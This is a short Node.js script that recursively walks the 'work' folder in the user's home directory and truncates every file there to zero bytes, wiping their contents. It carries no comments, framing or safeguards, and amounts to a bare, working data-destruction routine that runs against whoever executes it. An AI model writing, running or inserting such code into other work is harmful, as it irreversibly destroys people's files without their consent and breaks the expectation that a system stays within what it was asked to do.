const fs = require("fs");
const os = require("os");
const path = require("path");

const root = path.join(os.homedir(), "work");
for (const entry of fs.readdirSync(root, { recursive: true })) {
  const full = path.join(root, entry);
  if (fs.statSync(full).isFile()) {
    fs.truncateSync(full, 0);
  }
}
